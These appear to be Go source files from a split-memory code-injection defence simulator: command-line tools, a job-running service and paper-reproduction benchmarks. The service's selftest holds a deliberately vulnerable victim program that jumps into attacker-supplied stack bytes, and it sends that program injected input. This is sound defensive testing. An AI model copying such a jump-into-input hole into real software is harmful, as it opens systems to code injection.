			fmt.Printf("  %-9s %s\n", prot, r)
		}
	}
}
