// Command splitmem-fleet runs a fleet of independent S86 machines in
// parallel and reports the merged result: aggregate run outcomes, summed
// counters, decode-cache health, and (with -metrics) the merged telemetry
// registry in Prometheus text format.
//
// Usage:
//
//	splitmem-fleet [-n N] [-workers W] [-seed S]
//	               [-job nbench|gzip|syscall|pipe-throughput|fswrite|attack-grid]
//	               [-prot none|nx|split|split+nx] [-response break|observe|forensics]
//	               [-no-decode-cache] [-telemetry] [-metrics FILE] [-v]
//
// Each machine gets a deterministically derived seed, so the fleet's result
// is reproducible for any worker count.
package main

import (
	"flag"
	"fmt"
	"os"

	"splitmem"
	"splitmem/internal/fleet"
)

func main() {
	var (
		n         = flag.Int("n", 4, "number of machines")
		workers   = flag.Int("workers", 4, "concurrent workers")
		seed      = flag.Uint64("seed", 0, "master seed for per-machine seed derivation")
		jobName   = flag.String("job", "nbench", "job: a cataloged workload, or attack-grid")
		prot      = flag.String("prot", "split", "protection: none|nx|split|split+nx")
		response  = flag.String("response", "break", "split response: break|observe|forensics")
		noCache   = flag.Bool("no-decode-cache", false, "disable the predecode fast path")
		telemetry = flag.Bool("telemetry", false, "enable per-machine telemetry and merge it")
		metrics   = flag.String("metrics", "", "write merged metrics (Prometheus text) to FILE")
		verbose   = flag.Bool("v", false, "print one line per machine")
	)
	flag.Parse()

	mcfg := splitmem.Config{NoDecodeCache: *noCache, Telemetry: *telemetry || *metrics != ""}
	switch *prot {
	case "none":
		mcfg.Protection = splitmem.ProtNone
	case "nx":
		mcfg.Protection = splitmem.ProtNX
	case "split":
		mcfg.Protection = splitmem.ProtSplit
	case "split+nx":
		mcfg.Protection = splitmem.ProtSplitNX
	default:
		fmt.Fprintf(os.Stderr, "unknown -prot %q\n", *prot)
		os.Exit(2)
	}
	switch *response {
	case "break":
		mcfg.Response = splitmem.Break
	case "observe":
		mcfg.Response = splitmem.Observe
	case "forensics":
		mcfg.Response = splitmem.Forensics
	default:
		fmt.Fprintf(os.Stderr, "unknown -response %q\n", *response)
		os.Exit(2)
	}

	var job fleet.Job
	if *jobName == "attack-grid" {
		job = fleet.AttackGridJob()
	} else {
		var err error
		job, err = fleet.WorkloadJob(*jobName)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
	}

	agg, err := fleet.Run(fleet.Config{
		N: *n, Workers: *workers, Seed: *seed, Machine: mcfg, Job: job,
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	if *verbose {
		for _, m := range agg.Machines {
			if m.Err != nil {
				fmt.Printf("machine %2d seed=%-20d ERROR %v\n", m.ID, m.Seed, m.Err)
				continue
			}
			fmt.Printf("machine %2d seed=%-20d %v host=%v %s\n",
				m.ID, m.Seed, m.Run.Reason, m.Host.Round(1e6), m.Note)
		}
	}
	fmt.Print(agg.Report())
	if *metrics != "" {
		f, err := os.Create(*metrics)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		if err := agg.Hub.Registry().WritePrometheus(f); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		f.Close()
	}
	if agg.Errors > 0 {
		os.Exit(1)
	}
}
