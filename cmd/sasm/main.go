// Command sasm is the S86 assembler and disassembler.
//
// Usage:
//
//	sasm [-o out.self] [-crt] program.s      assemble to a SELF binary
//	sasm -d image.self                       disassemble a SELF binary
//	sasm -symbols program.s                  print the symbol table
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"

	"splitmem/internal/asm"
	"splitmem/internal/guest"
	"splitmem/internal/isa"
	"splitmem/internal/loader"
)

func main() {
	var (
		out     = flag.String("o", "", "output SELF file (default: stdout summary only)")
		disasm  = flag.Bool("d", false, "disassemble a SELF binary")
		symbols = flag.Bool("symbols", false, "print the symbol table")
		listing = flag.Bool("l", false, "print an assembler listing")
		withCRT = flag.Bool("crt", false, "append the guest C runtime")
	)
	flag.Parse()
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: sasm [flags] file")
		os.Exit(2)
	}
	raw, err := os.ReadFile(flag.Arg(0))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}

	if *disasm {
		prog, err := loader.Unmarshal(raw)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		for i := range prog.Sections {
			s := &prog.Sections[i]
			fmt.Printf("section %s at %#08x (%d bytes, %s)\n", s.Name, s.Addr, s.Size, loader.PermString(s.Perm))
			if s.Executable() {
				fmt.Print(isa.Disassemble(s.Data, s.Addr, 0))
			}
		}
		return
	}

	src := string(raw)
	if *withCRT {
		src = guest.WithCRT(src)
	}
	var prog *loader.Program
	if *listing {
		var list string
		prog, list, err = asm.AssembleListing(src)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		fmt.Print(list)
	} else {
		prog, err = asm.Assemble(src)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
	if *symbols {
		names := make([]string, 0, len(prog.Symbols))
		for n := range prog.Symbols {
			names = append(names, n)
		}
		sort.Slice(names, func(i, j int) bool { return prog.Symbols[names[i]] < prog.Symbols[names[j]] })
		for _, n := range names {
			fmt.Printf("%08x  %s\n", prog.Symbols[n], n)
		}
	}
	sum, err := prog.Checksum()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Printf("entry %#08x, %d sections, checksum %016x\n", prog.Entry, len(prog.Sections), sum)
	if *out != "" {
		bin, err := prog.Marshal()
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		if err := os.WriteFile(*out, bin, 0o644); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		fmt.Printf("wrote %s (%d bytes)\n", *out, len(bin))
	}
}
