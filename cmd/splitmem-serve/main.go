// Command splitmem-serve runs the splitmem detonation service: an HTTP
// server that accepts simulation jobs (S86 source or SELF binaries plus a
// machine configuration), runs them on a bounded worker pool of split-memory
// machines, and returns — or streams as NDJSON — the kernel events and
// injection detections each run produced.
//
// Usage:
//
//	splitmem-serve [-addr :8086] [-workers 8] [-backlog 16]
//	               [-max-cycles N] [-timeout D] [-journal path]
//	               [-pprof-addr 127.0.0.1:6061] [-no-tracing] [-selftest]
//
// Endpoints:
//
//	POST /v1/jobs            run a job, respond with the JSON result
//	POST /v1/jobs?stream=1   respond with an NDJSON stream: one accepted
//	                         line, one line per kernel event as it happens,
//	                         one terminal result line
//	GET  /healthz            liveness + drain state, build info, uptime,
//	                         span-ring counters
//	GET  /metrics            Prometheus text: service gauges plus the merged
//	                         telemetry of every finished machine
//	GET  /v1/traces/{id}     wall-clock lifecycle spans recorded under one
//	                         X-Splitmem-Trace ID (admit, enqueue-wait, run
//	                         slices, checkpoints, resume, result)
//
// Jobs are traced by default: every admission honors (or mints) an
// X-Splitmem-Trace header and records host spans into a bounded ring;
// -no-tracing turns it off. -pprof-addr serves net/http/pprof on a second
// listener; bind it to localhost (for example 127.0.0.1:6061) unless you
// mean to expose it.
//
// A full backlog answers 429 with Retry-After — the service sheds load, it
// never queues unboundedly. SIGINT/SIGTERM starts a graceful drain: new
// submissions get 503 while accepted jobs run to completion, so no NDJSON
// stream is ever truncated by shutdown.
//
// -selftest boots an in-process server, submits the quickstart victim and a
// precomputed Wilander return-address attack, checks the streamed
// EvInjectionDetected, then runs the concurrent load harness and exits
// nonzero on any contract violation.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	_ "net/http/pprof"

	"splitmem/internal/attacks"
	"splitmem/internal/serve"
	"splitmem/internal/serve/loadtest"
)

func main() {
	var (
		addr      = flag.String("addr", ":8086", "listen address")
		workers   = flag.Int("workers", 8, "concurrent simulation workers")
		backlog   = flag.Int("backlog", 0, "admission queue size (0 = 2*workers)")
		maxCycles = flag.Uint64("max-cycles", 0, "default per-job cycle budget (0 = 200M)")
		timeout   = flag.Duration("timeout", 0, "default per-job wall-clock limit (0 = 10s)")
		journal   = flag.String("journal", "", "crash-recovery journal path: admissions are fsync'd before acknowledgment and replayed after a crash (\"\" = off)")
		pprofAddr = flag.String("pprof-addr", "", "serve net/http/pprof on this address (\"\" = off; bind to localhost, e.g. 127.0.0.1:6061)")
		noTracing = flag.Bool("no-tracing", false, "disable host-span tracing (on by default)")
		traceCap  = flag.Int("trace-span-cap", 0, "host-span ring capacity (0 = default)")
		warmPool  = flag.Bool("warmpool", false, "fork jobs from snapshot templates: the first job of each (program, config) class builds a template image, later jobs fork from it copy-on-write")
		warmSize  = flag.Int("warmpool-size", 0, "distinct warm templates cached (0 = 32)")
		selftest  = flag.Bool("selftest", false, "run the in-process smoke + load test and exit")
	)
	flag.Parse()

	cfg := serve.Config{
		Workers:          *workers,
		Backlog:          *backlog,
		DefaultMaxCycles: *maxCycles,
		DefaultTimeout:   *timeout,
		JournalPath:      *journal,
		NoTracing:        *noTracing,
		TraceSpanCap:     *traceCap,
		WarmPool:         *warmPool,
		WarmPoolSize:     *warmSize,
	}

	startPprof(*pprofAddr)

	if *selftest {
		if err := runSelftest(cfg); err != nil {
			fmt.Fprintln(os.Stderr, "selftest:", err)
			os.Exit(1)
		}
		fmt.Println("selftest: ok")
		return
	}

	s, err := serve.New(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	httpSrv := &http.Server{Addr: *addr, Handler: s.Handler()}

	// SIGINT/SIGTERM: stop admission first (503s) but KEEP THE LISTENER UP
	// until no jobs are in flight — a gateway drains this replica by probing
	// the 503 and migrating live jobs off via checkpoint export, both of
	// which need reachable endpoints (http.Server.Shutdown would close the
	// listener immediately and turn a graceful drain into an apparent
	// crash). Only then shut the listener down — Shutdown waits for
	// in-flight handlers, and every streaming handler blocks until its
	// job's terminal line is written, so the drain cannot truncate a
	// stream.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	done := make(chan struct{})
	go func() {
		defer close(done)
		<-ctx.Done()
		fmt.Fprintln(os.Stderr, "splitmem-serve: draining")
		s.BeginDrain()
		quiet := time.After(5 * time.Minute)
	waitLive:
		for s.LiveJobs() > 0 {
			select {
			case <-quiet:
				break waitLive
			case <-time.After(50 * time.Millisecond):
			}
		}
		shutCtx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		defer cancel()
		if err := httpSrv.Shutdown(shutCtx); err != nil {
			// The graceful drain's patience ran out: hard-cancel the running
			// jobs so their streams get a terminal "drained" line instead of
			// hanging forever. With a journal, nothing is lost — unfinished
			// jobs replay on the next start.
			fmt.Fprintln(os.Stderr, "splitmem-serve: drain timeout, canceling running jobs")
			s.CancelRunning()
			httpSrv.Shutdown(context.Background())
		}
		s.Close()
	}()

	fmt.Fprintf(os.Stderr, "splitmem-serve: listening on %s (%d workers, backlog %d)\n",
		*addr, s.Workers(), s.Backlog())
	if err := httpSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	<-done
	fmt.Fprintln(os.Stderr, "splitmem-serve: drained")
}

// startPprof serves net/http/pprof (registered on the default mux by the
// blank import) on its own listener when addr is non-empty. Keeping the
// profiler off the service listener means exposing the job API never
// exposes the debug surface; bind to localhost unless you mean otherwise.
func startPprof(addr string) {
	if addr == "" {
		return
	}
	go func() {
		fmt.Fprintf(os.Stderr, "splitmem-serve: pprof on http://%s/debug/pprof/\n", addr)
		if err := http.ListenAndServe(addr, nil); err != nil {
			fmt.Fprintf(os.Stderr, "splitmem-serve: pprof listener: %v\n", err)
		}
	}()
}

// quickstartVictim is the examples/quickstart program: read attacker bytes
// into a stack buffer and jump into them.
const quickstartVictim = `
_start:
    sub esp, 1024
    mov ecx, esp
    mov ebx, 0
    mov edx, 1024
    mov eax, 3          ; read(0, buffer, 1024)
    int 0x80
    jmp ecx
`

// runSelftest proves the service end to end without a network listener:
// detection streaming on real attacks, then the load harness.
func runSelftest(cfg serve.Config) error {
	s, err := serve.New(cfg)
	if err != nil {
		return err
	}
	ts := httptest.NewServer(s.Handler())
	defer func() {
		ts.Close()
		s.Close()
	}()

	// 1. /healthz must identify the build and report an uptime — the
	// gateway's prober and any ops tooling key off these fields.
	if err := checkHealthz(ts.URL); err != nil {
		return fmt.Errorf("healthz: %w", err)
	}

	// 2. Quickstart victim under split memory: the injected jump must be
	// detected, streamed, and foiled.
	if err := checkDetection(ts.URL, map[string]any{
		"name":       "quickstart",
		"source":     quickstartVictim,
		"stdin_text": "\x90\x90\x90\x90", // any injected bytes: the jump itself is the crime
	}); err != nil {
		return fmt.Errorf("quickstart: %w", err)
	}

	// 3. A Wilander grid cell as a one-shot job: precompute the probe-based
	// payload, then replay it through the service.
	src, stdin, err := attacks.OneShot(attacks.TechRet, attacks.SegStack)
	if err != nil {
		return err
	}
	body := map[string]any{
		"name":   "wilander-ret-stack",
		"source": src,
		"crt":    true,
		"stdin":  stdin,
	}
	if err := checkDetection(ts.URL, body); err != nil {
		return fmt.Errorf("wilander ret/stack: %w", err)
	}

	// 4. Sustained concurrent load, both transports.
	for _, stream := range []bool{false, true} {
		rep, err := loadtest.Run(loadtest.Config{BaseURL: ts.URL, Clients: 32, Jobs: 2, Stream: stream})
		if err != nil {
			return err
		}
		fmt.Println(rep)
		if lost := rep.Lost(); lost != 0 || len(rep.Failures) > 0 || rep.GaveUp > 0 {
			return fmt.Errorf("load contract violated (stream=%v): %d lost, %d gave up, %d failures",
				stream, lost, rep.GaveUp, len(rep.Failures))
		}
	}
	return nil
}

// checkHealthz requires /healthz to advertise build info, a positive
// uptime, and the span-ring counters.
func checkHealthz(baseURL string) error {
	resp, err := http.Get(baseURL + "/healthz")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	var h struct {
		Build struct {
			Version string `json:"version"`
			Go      string `json:"go"`
		} `json:"build"`
		UptimeSeconds float64 `json:"uptime_seconds"`
		Tracing       struct {
			Enabled bool `json:"enabled"`
		} `json:"tracing"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&h); err != nil {
		return err
	}
	if h.Build.Go == "" {
		return fmt.Errorf("no build.go in healthz")
	}
	if h.UptimeSeconds < 0 {
		return fmt.Errorf("negative uptime %v", h.UptimeSeconds)
	}
	if !h.Tracing.Enabled {
		return fmt.Errorf("tracing should be on by default")
	}
	fmt.Printf("selftest: healthz: build %s/%s, uptime %.3fs, tracing on\n",
		h.Build.Version, h.Build.Go, h.UptimeSeconds)
	return nil
}

// checkDetection submits body as a streaming job and requires at least one
// injection-detected event line plus a foiled (no shell) result line.
func checkDetection(baseURL string, body map[string]any) error {
	b, err := json.Marshal(body)
	if err != nil {
		return err
	}
	resp, err := http.Post(baseURL+"/v1/jobs?stream=1", "application/json", strings.NewReader(string(b)))
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("status %d", resp.StatusCode)
	}
	var detected, gotResult, shell bool
	dec := json.NewDecoder(resp.Body)
	for {
		var line struct {
			Type  string `json:"type"`
			Event struct {
				Kind string `json:"kind"`
			} `json:"event"`
			Result struct {
				Reason       string `json:"reason"`
				Detections   int    `json:"detections"`
				ShellSpawned bool   `json:"shell_spawned"`
			} `json:"result"`
		}
		if err := dec.Decode(&line); err != nil {
			break
		}
		switch line.Type {
		case "event":
			if line.Event.Kind == "injection-detected" {
				detected = true
			}
		case "result":
			gotResult = true
			shell = line.Result.ShellSpawned
			if line.Result.Detections > 0 {
				detected = true
			}
		}
	}
	if !gotResult {
		return fmt.Errorf("stream ended without a result line")
	}
	if !detected {
		return fmt.Errorf("no injection-detected event streamed")
	}
	if shell {
		return fmt.Errorf("attack succeeded under split memory")
	}
	fmt.Printf("selftest: %s: detection streamed, attack foiled\n", body["name"])
	return nil
}
