// Command splitmem-run executes an S86 guest program (assembly source or
// SELF binary) on the simulated machine under a chosen protection policy
// and response mode, wiring the host's stdin/stdout to the guest.
//
// Usage:
//
//	splitmem-run [-prot none|nx|split|split+nx] [-response break|observe|forensics]
//	             [-crt] [-stats] [-events] [-trace-out run.json] [-metrics-out run.prom]
//	             program.s
//
// -trace-out writes the telemetry spans as Chrome trace_event JSON, loadable
// in Perfetto (https://ui.perfetto.dev); -metrics-out writes the metrics
// registry in the Prometheus text format (or JSON Lines when the path ends
// in .jsonl). Either flag enables telemetry for the run.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"splitmem"
	"splitmem/internal/guest"
)

func main() {
	var (
		prot     = flag.String("prot", "split", "protection: none, nx, split, split+nx")
		response = flag.String("response", "break", "response mode: break, observe, forensics")
		withCRT  = flag.Bool("crt", false, "append the guest C runtime to the program")
		stats    = flag.Bool("stats", false, "print machine statistics on exit")
		events   = flag.Bool("events", false, "print the kernel event log on exit")
		jsonOut  = flag.Bool("json", false, "print the event log as JSON lines on exit")
		traceN   = flag.Int("trace", 0, "record and print the last N executed instructions")
		budget   = flag.Uint64("budget", 0, "cycle budget (0 = unlimited)")
		traceOut = flag.String("trace-out", "", "write telemetry spans as Chrome trace_event JSON (Perfetto) to this file")
		metrOut  = flag.String("metrics-out", "", "write telemetry metrics (Prometheus text, or JSONL if the path ends in .jsonl) to this file")
		ckptOut  = flag.String("checkpoint", "", "write a snapshot image to this file if the run stops on its cycle budget")
		resume   = flag.String("resume", "", "resume from a snapshot image instead of loading a program (no program argument)")
	)
	flag.Parse()
	if *resume != "" {
		if flag.NArg() != 0 {
			fmt.Fprintln(os.Stderr, "usage: splitmem-run -resume image.snap [flags] (no program argument: the image carries the machine)")
			os.Exit(2)
		}
		runResumed(*resume, *ckptOut, *budget, *stats, *events, *jsonOut)
		return
	}
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: splitmem-run [flags] program.s|program.self")
		os.Exit(2)
	}

	cfg := splitmem.Config{}
	cfg.TraceDepth = *traceN
	cfg.Telemetry = *traceOut != "" || *metrOut != ""
	switch *prot {
	case "none":
		cfg.Protection = splitmem.ProtNone
	case "nx":
		cfg.Protection = splitmem.ProtNX
	case "split":
		cfg.Protection = splitmem.ProtSplit
	case "split+nx":
		cfg.Protection = splitmem.ProtSplitNX
	default:
		fmt.Fprintf(os.Stderr, "unknown protection %q\n", *prot)
		os.Exit(2)
	}
	switch *response {
	case "break":
		cfg.Response = splitmem.Break
	case "observe":
		cfg.Response = splitmem.Observe
	case "forensics":
		cfg.Response = splitmem.Forensics
		cfg.ForensicShellcode = splitmem.ExitShellcode()
	default:
		fmt.Fprintf(os.Stderr, "unknown response %q\n", *response)
		os.Exit(2)
	}

	path := flag.Arg(0)
	raw, err := os.ReadFile(path)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	m, err := splitmem.New(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	var p *splitmem.Process
	if strings.HasSuffix(path, ".self") {
		p, err = m.LoadBinary(raw, path)
	} else {
		src := string(raw)
		if *withCRT {
			src = guest.WithCRT(src)
		}
		p, err = m.LoadAsm(src, path)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}

	// Feed host stdin (if any) to the guest.
	if in, err := io.ReadAll(os.Stdin); err == nil && len(in) > 0 {
		p.StdinWrite(in)
	}
	p.StdinClose()

	res := m.Run(*budget)
	os.Stdout.Write(p.StdoutDrain())
	maybeCheckpoint(m, res, *ckptOut)

	if *events {
		for _, ev := range m.Events() {
			fmt.Fprintf(os.Stderr, "[%12d] %-18s pid=%d %s\n", ev.Cycles, ev.Kind, ev.PID, ev.Text)
		}
	}
	if *jsonOut {
		if b, err := m.EventsJSONL(); err == nil {
			os.Stderr.Write(b)
		}
	}
	if *traceN > 0 {
		fmt.Fprintf(os.Stderr, "--- execution trace (last %d instructions) ---\n%s", *traceN, m.TraceTail())
	}
	if *traceOut != "" {
		if err := writeFileWith(*traceOut, m.WriteTrace); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
	if *metrOut != "" {
		write := m.WriteMetricsPrometheus
		if strings.HasSuffix(*metrOut, ".jsonl") {
			write = m.WriteMetricsJSONL
		}
		if err := writeFileWith(*metrOut, write); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
	if *stats {
		s := m.Stats()
		fmt.Fprintf(os.Stderr, "cycles=%d instrs=%d pagefaults=%d debugtraps=%d ctxsw=%d\n",
			s.Cycles, s.Instructions, s.PageFaults, s.DebugTraps, s.CtxSwitches)
		fmt.Fprintf(os.Stderr, "itlb hits/misses=%d/%d dtlb=%d/%d\n",
			s.ITLBHits, s.ITLBMisses, s.DTLBHits, s.DTLBMisses)
		if m.Protection() == splitmem.ProtSplit || m.Protection() == splitmem.ProtSplitNX {
			fmt.Fprintf(os.Stderr, "split: pages=%d dataTLBloads=%d codeTLBloads=%d detections=%d\n",
				s.Split.TotalSplits, s.Split.DataTLBLoads, s.Split.CodeTLBLoads, s.Split.Detections)
		}
	}

	finish(res, p)
}

// maybeCheckpoint snapshots the machine to path when the run parked on its
// cycle budget — the resumable case. A finished (or broken) run has nothing
// worth resuming, so no image is written.
func maybeCheckpoint(m *splitmem.Machine, res splitmem.RunResult, path string) {
	if path == "" || res.Reason != splitmem.ReasonBudget {
		return
	}
	img, err := m.Snapshot()
	if err != nil {
		fmt.Fprintln(os.Stderr, "checkpoint:", err)
		os.Exit(1)
	}
	if err := os.WriteFile(path, img, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "checkpoint:", err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "checkpoint: %d-byte image written to %s (resume with -resume)\n", len(img), path)
}

// runResumed restores a snapshot image and continues the run. The image
// carries the whole machine — config, program, pending input — so no program
// argument or protection flags apply.
func runResumed(path, ckptOut string, budget uint64, stats, events, jsonOut bool) {
	img, err := os.ReadFile(path)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	m, err := splitmem.Restore(img)
	if err != nil {
		fmt.Fprintln(os.Stderr, "resume:", err)
		os.Exit(1)
	}
	p, ok := m.Kernel().Process(1)
	if !ok {
		fmt.Fprintln(os.Stderr, "resume: image has no root process")
		os.Exit(1)
	}
	res := m.Run(budget)
	os.Stdout.Write(p.StdoutDrain())
	maybeCheckpoint(m, res, ckptOut)
	if events {
		for _, ev := range m.Events() {
			fmt.Fprintf(os.Stderr, "[%12d] %-18s pid=%d %s\n", ev.Cycles, ev.Kind, ev.PID, ev.Text)
		}
	}
	if jsonOut {
		if b, err := m.EventsJSONL(); err == nil {
			os.Stderr.Write(b)
		}
	}
	if stats {
		s := m.Stats()
		fmt.Fprintf(os.Stderr, "cycles=%d instrs=%d pagefaults=%d debugtraps=%d ctxsw=%d\n",
			s.Cycles, s.Instructions, s.PageFaults, s.DebugTraps, s.CtxSwitches)
	}
	finish(res, p)
}

// writeFileWith creates path and streams write into it.
func writeFileWith(path string, write func(io.Writer) error) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := write(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// finish translates the run result into the process exit status.
func finish(res splitmem.RunResult, p *splitmem.Process) {
	switch {
	case res.Reason != splitmem.ReasonAllDone:
		fmt.Fprintf(os.Stderr, "run stopped: %v\n", res.Reason)
		os.Exit(3)
	default:
		if killed, sig := p.Killed(); killed {
			fmt.Fprintf(os.Stderr, "process killed: %v at %#08x\n", sig, p.FaultAddr())
			os.Exit(128 + int(sig))
		}
		_, status := p.Exited()
		os.Exit(status)
	}
}
