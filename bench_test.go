package splitmem_test

// One testing.B benchmark per table and figure of the paper's evaluation
// (§6). Run them all with:
//
//	go test -bench=. -benchmem
//
// Each benchmark reports domain metrics (normalized performance, attacks
// foiled) alongside the usual ns/op, so `go test -bench` regenerates the
// paper's numbers. The cmd/splitmem-attacklab and cmd/splitmem-bench tools
// print the same experiments as formatted tables.

import (
	"testing"

	"splitmem"
	"splitmem/internal/attacks"
	"splitmem/internal/bench"
	"splitmem/internal/cpu"
	"splitmem/internal/workloads"
)

func splitCfg() splitmem.Config {
	return splitmem.Config{Protection: splitmem.ProtSplit, Response: splitmem.Break}
}

// BenchmarkTable1Wilander: the benchmark-attack grid, reporting attacks
// foiled per run.
func BenchmarkTable1Wilander(b *testing.B) {
	for i := 0; i < b.N; i++ {
		cells, err := attacks.RunExtendedWilander(splitCfg())
		if err != nil {
			b.Fatal(err)
		}
		foiled, applicable := 0, 0
		for _, c := range cells {
			if c.NA {
				continue
			}
			applicable++
			if c.Result.Foiled() {
				foiled++
			}
		}
		b.ReportMetric(float64(foiled), "foiled")
		b.ReportMetric(float64(applicable), "attacks")
		if foiled != applicable {
			b.Fatalf("%d/%d attacks foiled", foiled, applicable)
		}
	}
}

// BenchmarkTable2RealWorld: the five real-world exploits, unprotected vs.
// split memory.
func BenchmarkTable2RealWorld(b *testing.B) {
	for i := 0; i < b.N; i++ {
		foiled := 0
		for _, sc := range attacks.Scenarios() {
			base, err := attacks.RunScenario(sc.Key, splitmem.Config{Protection: splitmem.ProtNone})
			if err != nil {
				b.Fatal(err)
			}
			if !base.Succeeded() {
				b.Fatalf("%s: exploit failed unprotected", sc.Key)
			}
			prot, err := attacks.RunScenario(sc.Key, splitCfg())
			if err != nil {
				b.Fatal(err)
			}
			if prot.Foiled() {
				foiled++
			}
		}
		b.ReportMetric(float64(foiled), "foiled")
		if foiled != len(attacks.Scenarios()) {
			b.Fatalf("only %d/%d foiled", foiled, len(attacks.Scenarios()))
		}
	}
}

// BenchmarkFig5ResponseModes: break, observe, forensics against wu-ftpd.
func BenchmarkFig5ResponseModes(b *testing.B) {
	for i := 0; i < b.N; i++ {
		for _, mode := range []splitmem.ResponseMode{splitmem.Break, splitmem.Observe, splitmem.Forensics} {
			r, err := attacks.RunFig5(mode)
			if err != nil {
				b.Fatal(err)
			}
			wantShell := mode == splitmem.Observe
			if r.ShellSpawned != wantShell {
				b.Fatalf("%v: shell=%v", mode, r.ShellSpawned)
			}
		}
	}
}

func reportNormalized(b *testing.B, name string, run func(splitmem.Config) (workloads.Metrics, error)) {
	b.Helper()
	base, err := run(splitmem.Config{Protection: splitmem.ProtNone})
	if err != nil {
		b.Fatal(err)
	}
	prot, err := run(splitCfg())
	if err != nil {
		b.Fatal(err)
	}
	b.ReportMetric(workloads.Normalized(base, prot), name)
}

// BenchmarkFig6Normalized: apache-32K, gzip, nbench, unixbench normalized
// performance under stand-alone split memory.
func BenchmarkFig6Normalized(b *testing.B) {
	for i := 0; i < b.N; i++ {
		reportNormalized(b, "apache32K", func(c splitmem.Config) (workloads.Metrics, error) {
			return workloads.RunHTTPD(c, 32*1024, 40)
		})
		reportNormalized(b, "gzip", workloads.RunGzip)
		reportNormalized(b, "nbench", workloads.RunNbench)
		score, _, err := workloads.UnixbenchScore(splitmem.Config{Protection: splitmem.ProtNone}, splitCfg())
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(score, "unixbench")
	}
}

// BenchmarkFig7Stress: the two worst-case tests.
func BenchmarkFig7Stress(b *testing.B) {
	for i := 0; i < b.N; i++ {
		reportNormalized(b, "pipectxsw", func(c splitmem.Config) (workloads.Metrics, error) {
			return workloads.RunPipeCtxsw(c, 300)
		})
		reportNormalized(b, "apache1K", func(c splitmem.Config) (workloads.Metrics, error) {
			return workloads.RunHTTPD(c, 1024, 40)
		})
	}
}

// BenchmarkFig8Apache: the page-size sweep endpoints (full sweep in
// cmd/splitmem-bench -fig8).
func BenchmarkFig8Apache(b *testing.B) {
	sizes := map[string]int{"1K": 1 << 10, "32K": 32 << 10, "256K": 256 << 10}
	for i := 0; i < b.N; i++ {
		for name, size := range sizes {
			sz := size
			reportNormalized(b, "apache"+name, func(c splitmem.Config) (workloads.Metrics, error) {
				return workloads.RunHTTPD(c, sz, 16)
			})
		}
	}
}

// BenchmarkFig9Fraction: fractional splitting at the paper's headline
// point (10%) plus the endpoints.
func BenchmarkFig9Fraction(b *testing.B) {
	modern := cpu.ModernQuadCore()
	base := splitmem.Config{Protection: splitmem.ProtNone, CostModel: modern}
	for i := 0; i < b.N; i++ {
		baseM, err := workloads.RunPipeCtxswWS(base, 100)
		if err != nil {
			b.Fatal(err)
		}
		for _, f := range []float64{0.1, 0.5, 1.0} {
			// Average over the same three page-selection seeds Fig. 9 uses.
			var sum float64
			for _, seed := range []int64{1, 2, 3} {
				cfg := splitmem.Config{
					Protection:    splitmem.ProtSplitNX,
					SplitFraction: f,
					CostModel:     modern,
					Seed:          seed,
				}
				m, err := workloads.RunPipeCtxswWS(cfg, 100)
				if err != nil {
					b.Fatal(err)
				}
				sum += workloads.Normalized(baseM, m)
			}
			b.ReportMetric(sum/3, "split"+pct(f))
		}
	}
}

func pct(f float64) string {
	switch f {
	case 0.1:
		return "10pct"
	case 0.5:
		return "50pct"
	default:
		return "100pct"
	}
}

// BenchmarkTable3 exists for completeness: it verifies the configuration
// table renders (the table itself is static).
func BenchmarkTable3(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if bench.Table3().Render() == "" {
			b.Fatal("empty table")
		}
	}
}

// BenchmarkAblationTLBLoad compares the two instruction-TLB loading
// strategies the paper discusses: the x86 single-step trick (§4.2.4)
// against direct software TLB loads on a SPARC-like machine (§4.7). The
// paper predicts "noticeably lower" overhead for the latter; the benchmark
// reports both normalized performances on the pipe-ctxsw worst case.
func BenchmarkAblationTLBLoad(b *testing.B) {
	for i := 0; i < b.N; i++ {
